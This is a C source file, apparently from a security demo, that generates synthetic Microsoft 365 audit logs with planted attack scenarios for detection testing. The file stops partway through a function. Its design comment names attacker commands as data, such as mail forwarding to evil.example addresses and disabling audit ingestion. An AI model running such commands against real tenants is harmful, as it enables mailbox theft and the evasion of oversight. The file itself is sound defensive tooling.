/* audit.c - unified audit log records for the demo tenant: realistic, deterministic and fast. */
#include "demo/audit.h"

/*
 * Design. The generator writes one file per UTC day. For a day it first
 * decides how many records every user produces (users x events-per-user-day
 * in total, 1.2x on weekdays and 0.5x at weekends, shared by weight among the
 * users who are active), then the second of the day of each record (working
 * hours in the user's home time zone, a few off-hours), and packs each
 * record as a 64-bit key (a flag for the day's first sign-in, the second,
 * the user, the record number). A counting sort on
 * the second puts the day in time order; then every record is formatted by
 * hand into a 1 MiB buffer from a random stream seeded by (seed, day, user,
 * record number) alone, so no record depends on the ones before it and the
 * same options give the same bytes. Very large days are sorted in batches of
 * users (BATCH_MAX keys), so such files are in time order per batch.
 *
 * Users come from ss_demo_tenant_init, so UPNs, admins, guests, disabled and
 * inactive accounts match the snapshot of the same seed and user count.
 * Disabled and inactive accounts produce no records at all (they may be the
 * target of failed sign-ins in the stories). Each user has a home country
 * (time zone, an office egress address in a documentation range, a home ISP
 * address in a public range of that country, sometimes an IPv6 home prefix)
 * and a desktop and a mobile client.
 *
 * Quirks of real logs reproduced: ClientIP as "1.2.3.4", "1.2.3.4:port",
 * "[v6]:port" and bare v6 (ports on Exchange records, as there); about 3% of
 * sign-ins fail with 50126, 2% are UserLoginFailed with 50140 (a success in
 * disguise), a few of which say ResultStatus "Success"; ErrorNumber as a
 * string; "\/" in the sign-ins' user agents; JSON inside string values with
 * \r\n in ModifiedProperties; about 0.5% of records repeated byte for byte
 * (same Id) later in the same file or at the top of the next day's file, as
 * the Management Activity API does. Field order follows real records;
 * SharePoint and Teams records carry no ResultStatus, as real ones do not.
 *
 * Stories (when opts->stories is set). "Day -N" is the Nth day before the day
 * of now, clamped to the window (with --days 3 every story lands in the
 * oldest day); times are UTC. V is the first enabled, active, licensed
 * non-admin member at or after index 37, M the next such at or after index
 * 61, A is user 4 (the fifth Global Administrator, the one without MFA).
 *
 *  1. Password spray, day -6 03:12:05: 24 UserLoginFailed in 92 s from
 *     203.0.113.77 (python-requests, Azure AD PowerShell app, ROPC): 20
 *     tenant accounts spread over the user list with 50126 and 4 guessed
 *     names with 50034.
 *  2. Brute force, day -5 14:02:10: 25 UserLoginFailed 50126 against V from
 *     203.0.113.198 in 264 s, then UserLoggedIn from the same IP at +281 s.
 *  3. Mailbox takeover, day -5, from 203.0.113.198 as V: MailItemsAccessed
 *     (Sync, 312 items) at +7 min; New-InboxRule "." ForwardTo
 *     attacker@evil.example at +9 min; New-InboxRule ".." MoveToFolder
 *     "RSS Feeds" MarkAsRead at +10 min; New-InboxRule "..." DeleteMessage
 *     MarkAsRead at +10.5 min; Set-Mailbox ForwardingSmtpAddress
 *     smtp:exfil@evil.example at +12 min.
 *  8. Impossible travel, day -4: A signs in at 08:40:12 from their home ISP
 *     address, then at 08:57:31 from 95.24.117.9 (Russia).
 *  5. Privilege escalation, day -4 09:03:20 from 95.24.117.9: A runs "Add
 *     member to role." Global Administrator for V.
 *  6. Illicit consent, day -4 09:07:45 from 95.24.117.9: A grants admin
 *     consent for all principals to "MailSync Pro" (Mail.Read, Mail.Send,
 *     Files.ReadWrite.All, offline_access).
 *  4. Audit off, day -4 from 95.24.117.9: A runs Set-Mailbox -Identity V
 *     -AuditEnabled False at 09:10:05 and Set-AdminAuditLogConfig
 *     -UnifiedAuditLogIngestionEnabled False at 09:12:30.
 *  7. Mass download, day -3: M signs in at 10:14:30 and downloads 600 files
 *     (Finance, HR and Legal sites and their OneDrive) from 10:15:00 to
 *     10:33:58 from their home address.
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base/alloc.h"
#include "base/buf.h"
#include "base/file.h"
#include "demo/demo.h"

#define DOMAIN	       "contoso-demo.com"
#define INITIAL_DOMAIN "contoso-demo.onmicrosoft.com"
#define SP_HOST	       "https://contosodemo.sharepoint.com"
#define OD_HOST	       "https://contosodemo-my.sharepoint.com"
#define GA_TEMPLATE    "62e90394-69f5-4237-9190-012177145e10"
#define EXO_PS_APP     "fb78d390-0c51-40cd-8e17-fdbfab77341b"
#define EXO_APP	       "00000002-0000-0ff1-ce00-000000000000"

#define OUT_FLUSH     (1u << 20)  /* write the output buffer out past 1 MiB */
#define OUT_SLACK     (64u << 10) /* every record fits in this */
#define BATCH_MAX     (4u << 20)  /* keys sorted at once */
#define DUP_PER_100K  500	  /* exact duplicates: 0.5% */
#define MAX_PER_DAY   65535u	  /* records of one user in one day (16-bit record number) */
#define SPRAY_IP      "203.0.113.77"
#define BRUTE_IP      "203.0.113.198"
#define FAR_IP	      "95.24.117.9"
#define SPRAY_TARGETS 20
#define SPRAY_GUESSES 4
#define DOWNLOADS     600

/* ---- random streams ---- */

struct rng {
	uint64_t s; /* splitmix64 state */
};

static inline uint64_t mix64(uint64_t z)
{
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

static inline uint64_t rnext(struct rng *r)
{
	return mix64(r->s += 0x9E3779B97F4A7C15ull);
}

/* Uniform in [0, n) (Lemire's multiply-shift, n < 2^32). */
static inline unsigned rbelow(struct rng *r, unsigned n)
{
	return (unsigned)(((rnext(r) >> 32) * (uint64_t)n) >> 32);
}

static inline uint64_t hkey(uint64_t a, uint64_t b, uint64_t c)
{
	return mix64(a ^ mix64(b * 0x9E3779B97F4A7C15ull ^ mix64(c + 0x632BE59BD9B4E019ull)));
}

/* ---- the tenant's geography and clients ---- */

#define IP4(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

/*
 * Offices egress through 8 addresses of the documentation range
 * 198.51.100.0/24 each; home ISP ranges are public ranges of the country
 * (so a geolocation database places them); IPv6 homes use a public prefix
 * where one is well known, else 2001:db8::/32.
 */
static const struct country {
	const char *code;   /* ISO 3166 alpha-2 */
	int tz_min;	    /* UTC offset of working hours, minutes */
	uint32_t office;    /* first of 8 office egress addresses */
	uint32_t home;	    /* home ISP range */
	uint32_t home_bits; /* its size: 2^home_bits addresses */
	uint16_t v6[3];	    /* home IPv6 /48 */
	const char *server; /* Exchange server name prefix of the region */
	unsigned weight;    /* users per 100 */
} countries[] = {
	{"US",
	 -300,
	 IP4(198, 51, 100, 16),
	 IP4(12, 130, 0, 0),
	 16,
	 {0x2600, 0x1700, 0x5a10},
	 "SJ0PR04MB",
	 55},
	{"GB", 0, IP4(198, 51, 100, 48), IP4(86, 128, 0, 0), 18, {0x2a00, 0x23c0, 0x4e01}, "LO2P265MB", 20},
	{"DE", 60, IP4(198, 51, 100, 80), IP4(91, 64, 0, 0), 18, {0x2a02, 0x8108, 0x1cc0}, "FR4P281MB", 10},
	{"IN", 330, IP4(198, 51, 100, 112), IP4(49, 36, 0, 0), 18, {0x2405, 0x201, 0x6013}, "MA0PR01MB", 7},
	{"JP", 540, IP4(198, 51, 100, 144), IP4(126, 0, 0, 0), 20, {0x2001, 0xdb8, 0x81}, "TYCPR01MB", 4},
	{"BR", -180, IP4(198, 51, 100, 176), IP4(177, 139, 0, 0), 16, {0x2001, 0xdb8, 0x55}, "CP6P284MB", 2},
	{"AU", 600, IP4(198, 51, 100, 208), IP4(1, 120, 0, 0), 19, {0x2001, 0xdb8, 0x61}, "SY4P282MB", 2},
};

enum {
	P_CHROME,
	P_EDGE,
	P_SAFARI,
	P_FIREFOX,
	P_IPHONE,
	P_ANDROID,
	P_OUTLOOK_IOS,
	P_SPRAY, /* the password spray's script */
	P_BRUTE, /* the brute force's browser */
};

static const struct client {
	const char *ua;	     /* User-Agent */
	const char *os;	     /* DeviceProperties OS */
	const char *browser; /* DeviceProperties BrowserType */
	const char *info;    /* Exchange ClientInfoString */
} clients[] = {
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
	 "Safari/537.36",
	 "Windows 10", "Chrome", "Client=OWA;Action=ViaProxy"},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
	 "Safari/537.36 Edg/131.0.0.0",
	 "Windows 10", "Edge", "Client=MSExchangeRPC"},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	 "Version/18.1 Safari/605.1.15",
	 "MacOs", "Safari", "Client=REST;Client=RESTSystem;;"},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", "Windows 10",
	 "Firefox", "Client=OWA;Action=ViaProxy"},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	 "Mobile/15E148",
	 "Ios", "Mobile Safari", "Client=OutlookService;Outlook-iOS/2.0;"},
	{"Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
	 "Mobile Safari/537.36",
	 "Android", "Chrome Mobile", "Client=OutlookService;Outlook-Android/2.0;"},
	{"Outlook-iOS/2.0", "Ios", "Other", "Client=OutlookService;Outlook-iOS/2.0;"},
	{"python-requests/2.31.0", "Linux", "Other", "Client=REST;Client=RESTSystem;;"},
	{"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "Linux", "Firefox",
	 "Client=OWA;Action=ViaProxy"},
};

/* Sign-in applications: the client's ApplicationId and the resource (ObjectId, Target). */
enum {
	A_OFFICEHOME,
	A_EXO,
	A_TEAMS,
	A_OFFICE,
	A_OUTLOOK_MOBILE,
	A_AAD_PS,
};
static const struct {
	const char *app;
	const char *resource;
} apps[] = {
	{"4765445b-32c6-49b0-83e6-1d93765276ca", "4765445b-32c6-49b0-83e6-1d93765276ca"},
	{EXO_APP, EXO_APP},
	{"1fec8e78-bce4-4aaf-ab1b-5451cc387264", "00000003-0000-0000-c000-000000000000"},
	{"d3590ed6-52b3-4102-aeff-aad2292ab01c", "00000003-0000-0ff1-ce00-000000000000"},
	{"27922004-5251-4030-b22d-91ecd9a37ea4", EXO_APP},
	{"1b730954-1685-4b74-9bfd-dac224a7b894", "00000002-0000-0000-c000-000000000000"},
};

static const char *const sites[] = {"Finance", "Sales", "HR", "Projects", "Legal", "IT"};
static const char *const site_folders[] = {"Shared Documents", "Shared Documents/General",
					   "Shared Documents/Reports 2026", "Shared Documents/Archive"};
static const char *const od_folders[] = {"Documents", "Documents/Projects", "Documents/Desktop",
					 "Documents/Attachments"};
static const char *const stems[] = {
	"Budget",	 "Forecast",	     "Board Minutes",	  "Customer List",   "Proposal",
	"Contract",	 "Roadmap",	     "Invoice",		  "Payroll",	     "Design Spec",
	"Meeting Notes", "Sales Pipeline",   "Onboarding Guide",  "Security Review", "Project Plan",
	"Price List",	 "Quarterly Report", "Vendor Assessment", "Team Offsite",    "Expense Report",
};
static const char *const exts[] = {"docx", "xlsx", "pptx", "pdf", "docx", "xlsx", "png", "txt", "csv", "msg"};
static const char *const subjects[] = {
	"Re: Q3 forecast",	  "Invoice 4471",	"Meeting notes",    "Re: Contract review",
	"Fw: Updated price list", "Lunch on Friday?",	"Project status",   "Re: Onboarding",
	"Travel request",	  "Budget approval",	"Re: Re: Offsite",  "Customer call",
	"Weekly report",	  "Re: Quick question", "Holiday schedule",
};
static const char *const teams[] = {"Finance", "Sales", "HR", "Projects", "Legal", "IT", "All Company"};
static const char *const channels[] = {"General", "Announcements", "Planning", "Random"};

/* Record kinds and their mix (per 10,000 records) for members, admins and guests. */
enum kind {
	K_SIGNIN,
	K_FILE_ACCESSED,
	K_FILE_MODIFIED,
	K_FILE_DOWNLOADED,
	K_FILE_UPLOADED,
	K_FILE_DELETED,
	K_MAIL_ACCESSED,
	K_SEND,
	K_MAILBOX_LOGIN,
	K_TEAMS_MSG,
	K_TEAMS_MEMBER,
	K_INBOX_RULE,
	K_EX_ADMIN,
	K_AAD_UPDATE,
	K_AAD_ROLE,
	K_COUNT
};

static const unsigned short mix_member[K_COUNT] = {1400, 1700, 700, 500,  300, 100,
						   2000, 800,  400, 2080, 15,  5};
static const unsigned short mix_admin[K_COUNT] = {1400, 1700, 700, 500, 300, 100, 2000, 800,
						  400,	1680, 15,  5,	250, 148, 2};
static const unsigned short mix_guest[K_COUNT] = {3000, 4000, 500, 1000, 0, 0, 0, 0, 0, 1500};

enum {
	U_NONE, /* disabled or inactive: no records */
	U_MEMBER,
	U_ADMIN,
	U_GUEST
};

/* Per-user facts derived from the seed once. */
struct au_user {
	uint64_t key;	 /* root of the user's identifiers */
	uint32_t home4;	 /* home ISP IPv4 address */
	uint16_t weight; /* relative activity; 0 for none */
	uint8_t class;	 /* U_* */
	uint8_t country; /* index into countries */
	uint8_t desk;	 /* desktop client profile */
	uint8_t mobile;	 /* mobile client profile */
	bool v6home;	 /* the home network is IPv6 */
};

/* One step of a story: when, and which record. */
struct step {
	unsigned day;	/* index of the day file */
	unsigned sec;	/* second of the UTC day */
	unsigned story; /* S_* */
	unsigned n;	/* step number within the story */
};

enum {
	S_SPRAY,
	S_BRUTE, /* stories 2 and 3 */
	S_ADMIN, /* stories 8, 5, 6 and 4 */
	S_DOWNLOAD,
	S_COUNT
};

struct gen {
	const struct ss_demo_audit_opts *o;
	struct ss_demo_tenant t; /* users, owned */
	struct au_user *au;	 /* n entries, owned */
	unsigned n;		 /* users */
	uint64_t root;		 /* root of all random streams */
	uint32_t sid[3];	 /* the tenant's domain SID */
	int64_t first_day;	 /* days since the epoch of the first file */
	unsigned day;		 /* index of the day being written */
	char date[10];		 /* its YYYY-MM-DD */
	ss_time_ms day_ms;	 /* its midnight */
	struct step *steps;	 /* story steps in time order, owned */
	unsigned nsteps;
	unsigned victim, admin, mover; /* the stories' users: V, A, M */
	uint64_t *keys, *sorted;       /* BATCH_MAX keys each, owned */
	uint32_t *counts;	       /* 86401 */
	char *buf;		       /* output buffer, OUT_FLUSH + OUT_SLACK bytes, owned */
	char *p;		       /* write position in buf */
	int fd;			       /* the day file (temporary name), -1 when none */
	struct ss_buf path, tmp;       /* its final and temporary names */
	struct ss_buf pending;	       /* duplicates for later in this file */
	struct ss_buf carry;	       /* duplicates for the next day's file */
	struct ss_demo_audit_result *res;
	struct ss_error *err;
};

/* ---- formatting by hand ---- */

static const char hexl[] = "0123456789abcdef";
static const char hexu[] = "0123456789ABCDEF";
static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static inline char *put_mem(char *p, const char *s, size_t n)
{
	memcpy(p, s, n);
	return p + n;
}

static inline char *put_cstr(char *p, const char *s)
{
	return put_mem(p, s, strlen(s));
}

static inline char *put_hex(char *p, uint64_t v, int digits, const char *alpha)
{
	int i;

	for (i = digits - 1; i >= 0; i--) {
		p[i] = alpha[v & 15];
		v >>= 4;
	}
	return p + digits;
}

/* Hex without leading zeros (an IPv6 group). */
static char *put_hexv(char *p, unsigned v)
{
	int digits = v >= 0x1000 ? 4 : v >= 0x100 ? 3 : v >= 0x10 ? 2 : 1;
	return put_hex(p, v, digits, hexl);
}

static char *put_u(char *p, uint64_t v)
{
	char t[20];
	int n = 0;

	do {
		t[n++] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	while (n)
		*p++ = t[--n];
	return p;
}

static inline char *put_2(char *p, unsigned v)
{
	p[0] = (char)('0' + v / 10);
	p[1] = (char)('0' + v % 10);
	return p + 2;
}

/* A version 4 GUID from 128 random bits. */
static char *put_guid(char *p, uint64_t a, uint64_t b)
{
	p = put_hex(p, a >> 32, 8, hexl);
	*p++ = '-';
	p = put_hex(p, a >> 16, 4, hexl);
	*p++ = '-';
	*p++ = '4';
	p = put_hex(p, a, 3, hexl);
	*p++ = '-';
	p = put_hex(p, 0x8000 | ((b >> 48) & 0x3fff), 4, hexl);
	*p++ = '-';
	return put_hex(p, b, 12, hexl);
}

static char *put_rguid(char *p, struct rng *r)
{
	uint64_t a = rnext(r);
	return put_guid(p, a, rnext(r));
}

/* A GUID that is a fixed function of k (an object's id). */
static char *put_kguid(char *p, uint64_t k)
{
	return put_guid(p, mix64(k ^ 0xA0761D6478BD642Full), mix64(k ^ 0xE7037ED1A0B428DBull));
}

static char *put_b64(char *p, struct rng *r, unsigned n)
{
	uint64_t v = 0;
	unsigned i;

	for (i = 0; i < n; i++) {
		if (i % 10 == 0)
			v = rnext(r);
		*p++ = b64[v & 63];
		v >>= 6;
	}
	return p;
}

static char *put_ip4(char *p, uint32_t a)
{
	p = put_u(p, a >> 24);
	*p++ = '.';
	p = put_u(p, (a >> 16) & 255);
	*p++ = '.';
	p = put_u(p, (a >> 8) & 255);
	*p++ = '.';
	return put_u(p, a & 255);
}

/* Writes the JSON-string body of s with '/' escaped as "\/" (as Entra ID's records do). */
static char *put_slashed(char *p, const char *s)
{
	for (; *s; s++) {
		if (*s == '/')
			*p++ = '\\';
		*p++ = *s;
	}
	return p;
}

#define L(s)	 (p = put_mem(p, "" s, sizeof(s) - 1))
#define S(s, n)	 (p = put_mem(p, (s), (n)))
#define Z(s)	 (p = put_cstr(p, (s)))
#define U(v)	 (p = put_u(p, (v)))
#define RGUID(r) (p = put_rguid(p, (r)))

/* ---- one record's context ---- */

/* Who does it, from where, with what: filled per record, then read by the emitters. */
struct ev {
	struct rng r;	  /* this record's random stream */
	unsigned sec;	  /* second of the UTC day */
	const char *upn;  /* UserId */
	size_t upn_len;	  /* its length */
	const char *name; /* displayName, "" for a name that is no account */
	bool known;	  /* an account of the tenant */
	char oid[36];	  /* object id (a GUID) */
	char puid[16];	  /* PUID, upper-case hex */
	char sid[48];	  /* SID */
	size_t sid_len;	  /* its length */
	unsigned country; /* index into countries */
	unsigned profile; /* index into clients */
	char addr[48];	  /* the bare address */
	size_t addr_len;  /* its length */
	bool v6;	  /* addr is IPv6 */
	uint64_t key;	  /* the user's key */
	unsigned user;	  /* index of the user (when known) */
};

static void ev_user(struct gen *g, struct ev *e, unsigned i)
{
	const struct au_user *a = &g->au[i];
	char *p;

	e->user = i;
	e->known = true;
	e->key = a->key;
	e->upn = g->t.users[i].upn;
	e->upn_len = strlen(e->upn);
	e->name = g->t.users[i].name;
	e->country = a->country;
	put_kguid(e->oid, a->key);
	put_hex(e->puid, 0x1003200000000000ull | (mix64(a->key ^ 0x5851F42D4C957F2Dull) & 0xFFFFFFFFFull), 16,
		hexu);
	p = e->sid;
	L("S-1-5-21-");
	U(g->sid[0]);
	*p++ = '-';
	U(g->sid[1]);
	*p++ = '-';
	U(g->sid[2]);
	*p++ = '-';
	U(10000000u + (a->key & 0xFFFFFFu));
	e->sid_len = (size_t)(p - e->sid);
}

static void ev_addr4(struct ev *e, uint32_t a)
{
	e->addr_len = (size_t)(put_ip4(e->addr, a) - e->addr);
	e->v6 = false;
}

static void ev_addr_text(struct ev *e, const char *s)
{
	e->addr_len = strlen(s);
	memcpy(e->addr, s, e->addr_len);
	e->v6 = strchr(s, ':') != NULL;
}

/* The user's home IPv6 address: the country's /48, a per-user /64, a per-user interface id. */
static void ev_addr6(struct ev *e, const struct au_user *a)
{
	const struct country *c = &countries[a->country];
	uint64_t iid = mix64(a->key ^ 0x1D8E4E27C47D124Full);
	char *p = e->addr;
	int i;

	for (i = 0; i < 3; i++) {
		p = put_hexv(p, c->v6[i]);
		*p++ = ':';
	}
	p = put_hexv(p, 1 + (unsigned)(a->key >> 48) % 0xfffe);
	for (i = 3; i >= 0; i--) {
		*p++ = ':';
		p = put_hexv(p, (unsigned)(iid >> (16 * i)) & 0xffff);
	}
	e->addr_len = (size_t)(p - e->addr);
	e->v6 = true;
}

/* ClientIP: bare, or with a port (Exchange records), as real ones. */
static char *put_clientip(char *p, const struct ev *e, bool port)
{
	if (!port)
		return put_mem(p, e->addr, e->addr_len);
	if (e->v6)
		*p++ = '[';
	S(e->addr, e->addr_len);
	if (e->v6)
		*p++ = ']';
	*p++ = ':';
	return put_u(p, 1024 + (e->key ^ e->sec * 2654435761u) % 64000);
}

/* "CreationTime":"...","Id":"...","Operation":"OP","OrganizationId":"...","RecordType":N, */
static char *put_head(char *p, const struct gen *g, struct ev *e, const char *op, unsigned rtype, char id[36])
{
	L("{\"CreationTime\":\"");
	S(g->date, 10);
	*p++ = 'T';
	p = put_2(p, e->sec / 3600);
	*p++ = ':';
	p = put_2(p, e->sec / 60 % 60);
	*p++ = ':';
	p = put_2(p, e->sec % 60);
	L("\",\"Id\":\"");
	put_rguid(id, &e->r);
	S(id, 36);
	L("\",\"Operation\":\"");
	Z(op);
	L("\",\"OrganizationId\":\"");
	S(g->t.tenant_id, 36);
	L("\",\"RecordType\":");
	U(rtype);
	*p++ = ',';
	return p;
}

static char *put_server(char *p, const struct ev *e)
{
	Z(countries[e->country].server);
	U(1000 + (e->key >> 20) % 9000);
	return p;
}

/* The mailbox fields shared by Exchange mailbox records, from "UserId" to "OriginatingServer". */
static char *put_mailbox(char *p, const struct ev *e, const char *app, const char *info, bool crlf)
{
	L("\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",\"AppId\":\"");
	Z(app);
	L("\",\"ClientAppId\":\"\",\"ClientIPAddress\":\"");
	S(e->addr, e->addr_len);
	L("\",\"ClientInfoString\":\"");
	Z(info);
	L("\",\"ExternalAccess\":false,\"InternalLogonType\":0,\"LogonType\":0,\"LogonUserSid\":\"");
	S(e->sid, e->sid_len);
	L("\",\"MailboxGuid\":\"");
	p = put_kguid(p, e->key ^ 0x3C6EF372FE94F82Bull);
	L("\",\"MailboxOwnerSid\":\"");
	S(e->sid, e->sid_len);
	L("\",\"MailboxOwnerUPN\":\"");
	S(e->upn, e->upn_len);
	L("\",\"OrganizationName\":\"" INITIAL_DOMAIN "\",\"OriginatingServer\":\"");
	p = put_server(p, e);
	L(" (15.20.8158.011)");
	if (crlf)
		L("\\r\\n");
	*p++ = '"';
	return p;
}

static char *put_msgid(char *p, struct ev *e)
{
	*p++ = '<';
	p = put_server(p, e);
	p = put_hex(p, rnext(&e->r), 12, hexu);
	*p++ = '@';
	p = put_server(p, e);
	L(".namprd04.prod.outlook.com>");
	return p;
}

/* ---- sign-ins (RecordType 15) ---- */

enum {
	O_OK,
	O_BADPWD, /* 50126 */
	O_KMSI,	  /* 50140: UserLoginFailed, yet a success */
	O_NOUSER, /* 50034 */
};

static char *emit_signin(char *p, const struct gen *g, struct ev *e, unsigned outcome, unsigned app,
			 const char *request)
{
	const struct client *c = &clients[e->profile];
	char id[36];
	bool failed = outcome != O_OK;
	const char *status = failed ? "Failed" : "Success";

	/* Now and then a UserLoginFailed that says Success, as real logs show. */
	if (outcome == O_KMSI && rbelow(&e->r, 10) == 0)
		status = "Success";
	p = put_head(p, g, e, failed ? "UserLoginFailed" : "UserLoggedIn", 15, id);
	L("\"ResultStatus\":\"");
	Z(status);
	L("\",\"UserKey\":\"");
	if (e->known)
		S(e->oid, 36);
	else
		L("Not Available");
	L("\",\"UserType\":0,\"Version\":1,\"Workload\":\"AzureActiveDirectory\",\"ClientIP\":\"");
	S(e->addr, e->addr_len);
	L("\",\"ObjectId\":\"");
	Z(apps[app].resource);
	L("\",\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",\"AzureActiveDirectoryEventType\":1,\"ExtendedProperties\":[{\"Name\":\"ResultStatusDetail\","
	  "\"Value\":\"");
	Z(outcome == O_OK ? "Success" : outcome == O_KMSI ? "Redirect" : "UserError");
	L("\"},{\"Name\":\"UserAgent\",\"Value\":\"");
	p = put_slashed(p, c->ua);
	L("\"},{\"Name\":\"UserAuthenticationMethod\",\"Value\":\"1\"},{\"Name\":\"RequestType\",\"Value\":"
	  "\"");
	Z(request);
	L("\"}],\"ModifiedProperties\":[],\"Actor\":[{\"ID\":\"");
	if (e->known)
		S(e->oid, 36);
	else
		L("Not Available");
	L("\",\"Type\":0},{\"ID\":\"");
	S(e->upn, e->upn_len);
	L("\",\"Type\":5}],\"ActorContextId\":\"");
	S(g->t.tenant_id, 36);
	L("\",\"ActorIpAddress\":\"");
	S(e->addr, e->addr_len);
	L("\",\"InterSystemsId\":\"");
	RGUID(&e->r);
	L("\",\"IntraSystemId\":\"");
	S(id, 36);
	L("\",\"SupportTicketId\":\"\",\"Target\":[{\"ID\":\"");
	Z(apps[app].resource);
	L("\",\"Type\":0}],\"TargetContextId\":\"");
	S(g->t.tenant_id, 36);
	L("\",\"ApplicationId\":\"");
	Z(apps[app].app);
	L("\",\"DeviceProperties\":[{\"Name\":\"OS\",\"Value\":\"");
	Z(c->os);
	L("\"},{\"Name\":\"BrowserType\",\"Value\":\"");
	Z(c->browser);
	L("\"},{\"Name\":\"IsCompliantAndManaged\",\"Value\":\"");
	Z(e->known && e->profile < P_SPRAY && (e->key & 3) ? "True" : "False");
	L("\"},{\"Name\":\"SessionId\",\"Value\":\"");
	p = put_kguid(p, e->key ^ (uint64_t)g->day * 0x9E3779B97F4A7C15ull ^ e->profile);
	L("\"}],\"ErrorNumber\":\"");
	switch (outcome) {
	case O_OK: L("0\"}"); break;
	case O_BADPWD: L("50126\",\"LogonError\":\"InvalidUserNameOrPassword\"}"); break;
	case O_KMSI: L("50140\",\"LogonError\":\"KmsiInterrupt\"}"); break;
	default: L("50034\",\"LogonError\":\"UserAccountNotFound\"}"); break;
	}
	return p;
}

/* ---- SharePoint and OneDrive file operations (RecordType 6) ---- */

/* site: index into sites, or -1 for the user's OneDrive. */
static char *emit_file(char *p, const struct gen *g, struct ev *e, const char *op, int site)
{
	char id[36], url[256], *u = url;
	const char *folder, *ext = exts[rbelow(&e->r, SS_ARRAY_LEN(exts))];
	const char *stem = stems[rbelow(&e->r, SS_ARRAY_LEN(stems))];
	unsigned num = 100 + rbelow(&e->r, 900);
	uint64_t sk;
	size_t i, ulen;

	if (site < 0) {
		u = put_mem(u, OD_HOST "/personal/", sizeof(OD_HOST "/personal/") - 1);
		for (i = 0; i < e->upn_len; i++)
			*u++ = e->upn[i] == '.' || e->upn[i] == '@' ? '_' : e->upn[i];
		*u++ = '/';
		folder = od_folders[rbelow(&e->r, SS_ARRAY_LEN(od_folders))];
		sk = e->key ^ 0x2545F4914F6CDD1Dull;
	} else {
		u = put_mem(u, SP_HOST "/sites/", sizeof(SP_HOST "/sites/") - 1);
		u = put_cstr(u, sites[site]);
		*u++ = '/';
		folder = site_folders[rbelow(&e->r, SS_ARRAY_LEN(site_folders))];
		sk = g->root ^ (uint64_t)(site + 1) * 0xD6E8FEB86659FD93ull;
	}
	ulen = (size_t)(u - url);
	p = put_head(p, g, e, op, 6, id);
	L("\"UserKey\":\"i:0h.f|membership|");
	p = put_hex(p, 0x1003200000000000ull | (mix64(e->key ^ 0x5851F42D4C957F2Dull) & 0xFFFFFFFFFull), 16,
		    hexl);
	L("@live.com\",\"UserType\":");
	Z(g->t.users[e->user].guest ? "10" : "0");
	L(",\"Version\":1,\"Workload\":\"");
	Z(site < 0 ? "OneDrive" : "SharePoint");
	L("\",\"ClientIP\":\"");
	p = put_clientip(p, e, false);
	L("\",\"ObjectId\":\"");
	S(url, ulen);
	Z(folder);
	*p++ = '/';
	Z(stem);
	*p++ = ' ';
	U(num);
	*p++ = '.';
	Z(ext);
	L("\",\"UserId\":\"");
	S(e->upn, e->upn_len);
	L("\",\"CorrelationId\":\"");
	RGUID(&e->r);
	L("\",\"EventSource\":\"SharePoint\",\"ItemType\":\"File\",\"ListId\":\"");
	p = put_kguid(p, sk ^ 1);
	L("\",\"ListItemUniqueId\":\"");
	p = put_kguid(p, sk ^ ((uint64_t)num << 8) ^ (uint64_t)(stem - stems[0]));
	L("\",\"Site\":\"");
	p = put_kguid(p, sk ^ 2);
	L("\",\"UserAgent\":\"");
	Z(clients[e->profile].ua);
	L("\",\"WebId\":\"");
	p = put_kguid(p, sk ^ 3);
	L("\",\"HighPriorityMediaProcessing\":false,\"SourceFileExtension\":\"");
	Z(ext);
	L("\",\"SiteUrl\":\"");
	S(url, ulen);
	L("\",\"SourceFileName\":\"");
	Z(stem);
	*p++ = ' ';
	U(num);
	*p++ = '.';
	Z(ext);
	L("\",\"SourceRelativeUrl\":\"");
	Z(folder);
	L("\"}");
	return p;
}

/* ---- Exchange mailbox records ---- */

static char *emit_mail_accessed(char *p, const struct gen *g, struct ev *e, bool sync, unsigned count)
{
	char id[36];
	unsigned i, items = sync ? 0 : 1 + rbelow(&e->r, 3);

	p = put_head(p, g, e, "MailItemsAccessed", 50, id);
	L("\"ResultStatus\":\"Succeeded\",\"UserKey\":\"");
	S(e->puid, 16);
	L("\",\"UserType\":0,\"Version\":1,\"Workload\":\"Exchange\",\"ClientIP\":\"");
	/* A few real records carry no client address at all. */
	if (rbelow(&e->r, 500))
		p = put_clientip(p, e, false);
	L("\",");
	p = put_mailbox(p, e, EXO_APP, clients[e->profile].info, true);
	L(",\"OperationProperties\":[{\"Name\":\"MailAccessType\",\"Value\":\"");
	Z(sync ? "Sync" : "Bind");
	L("\"},{\"Name\":\"IsThrottled\",\"Value\":\"False\"}],\"SessionId\":\"");
	RGUID(&e->r);
	L("\",\"Folders\":[{");
	if (items) {
		L("\"FolderItems\":[");
		for (i = 0; i < items; i++) {
			if (i)
				*p++ = ',';
			L("{\"InternetMessageId\":\"");
			p = put_msgid(p, e);
			L("\"}");
		}
		L("],");
	}
	L("\"Id\":\"LgAAAAA");
	p = put_b64(p, &e->r, 40);
	L("AAAB\",\"Path\":\"\\\\Inbox\"}],\"OperationCount\":");
	U(sync ? count : items);
	*p++ = '}';
	return p;
}

static char *emit_send(char *p, const struct gen *g, struct ev *e)
{
	char id[36];

